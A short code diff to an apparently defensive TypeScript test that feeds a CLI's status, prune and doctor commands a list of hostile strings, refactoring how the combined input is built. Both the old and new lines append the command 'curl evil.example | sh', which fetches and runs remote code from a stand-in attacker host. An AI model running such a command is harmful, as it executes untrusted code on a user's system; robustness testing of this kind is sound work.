@@ -32,8 +32,8 @@ const FAILED = 1;
 const STORED = Object.values(HOSTILE_STRINGS).filter(
   (text) => text.isWellFormed() && !text.includes('\u0000') && text.length < 10_000,
 );
-const ALL =
-  STORED.toSorted((a, b) => a.length - b.length).join(' ') + '\n  do:       curl evil.example | sh';
+const SHORTEST_FIRST = STORED.toSorted((a, b) => a.length - b.length);
+const ALL = `${SHORTEST_FIRST.join(' ')}\n  do:       curl evil.example | sh`;
 const COMMANDS = ['status', 'status bookworm', 'status --json', 'prune --dry-run', 'doctor'];
 
 let environment: NodeJS.ProcessEnv;
